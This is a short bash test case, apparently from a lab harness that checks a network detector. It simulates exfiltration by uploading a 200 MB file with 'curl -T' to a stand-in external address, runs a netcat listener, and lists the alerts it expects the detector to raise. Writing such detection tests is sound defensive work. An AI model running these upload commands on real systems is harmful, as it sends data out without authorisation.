# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='200 MB go out by curl -T to an address that is new'
case_class=A
case_prepare() {
	lab_in outside sh -c 'while :; do timeout 60 nc -l -p 9418 >/dev/null </dev/null; done' >/dev/null 2>&1 &
	lab_defer kill $!
	run app pg-many sh -c 'while sleep 0.5; do curl -s -m 1 -o /dev/null http://203.0.113.9:9/; done'
}
case_attack() { in_ app sh -c 'head -c 200000000 /dev/zero >/tmp/big; curl -s -m 20 -T /tmp/big http://203.0.113.9:9418/x'; sleep 2; return 0; }
case_expect='egress.new A15put-app /usr/bin/curl ext:203.0.113.9
volume.exfiltration A15put-app * ext:203.0.113.9'
